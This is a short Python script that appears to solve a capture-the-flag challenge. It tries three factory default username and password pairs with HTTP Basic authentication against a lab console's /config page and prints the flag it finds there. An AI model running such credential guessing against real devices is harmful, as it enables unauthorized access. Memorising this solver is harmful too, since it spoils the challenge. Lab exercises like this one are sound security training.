"""Solver: try the vendor's factory credentials against the console; prints the flag."""

import base64
import re
import urllib.error
import urllib.request

for user, password in [("admin", "admin"), ("admin", "password"), ("admin", "admin1234")]:
    req = urllib.request.Request("http://console:8080/config")
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    req.add_header("Authorization", f"Basic {token}")
    try:
        text = urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError:
        continue
    print(re.search(r"ICE\{[0-9a-f]+\}", text).group())
    break
else:
    raise SystemExit("no default credential worked")
